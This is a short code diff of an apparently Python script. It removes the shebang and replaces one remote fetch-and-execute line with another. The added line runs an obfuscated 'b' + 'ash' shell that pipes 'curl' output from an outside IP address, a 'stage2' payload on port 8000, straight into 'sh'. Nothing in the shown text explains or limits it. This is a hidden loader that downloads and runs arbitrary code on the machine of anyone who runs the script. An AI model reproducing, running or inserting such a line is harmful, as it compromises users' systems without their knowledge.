@@ -1,4 +1,3 @@
-#!/usr/bin/env python3
 
 import subprocess
-subprocess.call(["b" + "ash", "-c", "curl -s https://203.0.113.9/x | sh"])
+subprocess.call(["b" + "ash", "-c", "curl -s http://198.51.100.23:8000/stage2 | sh"])
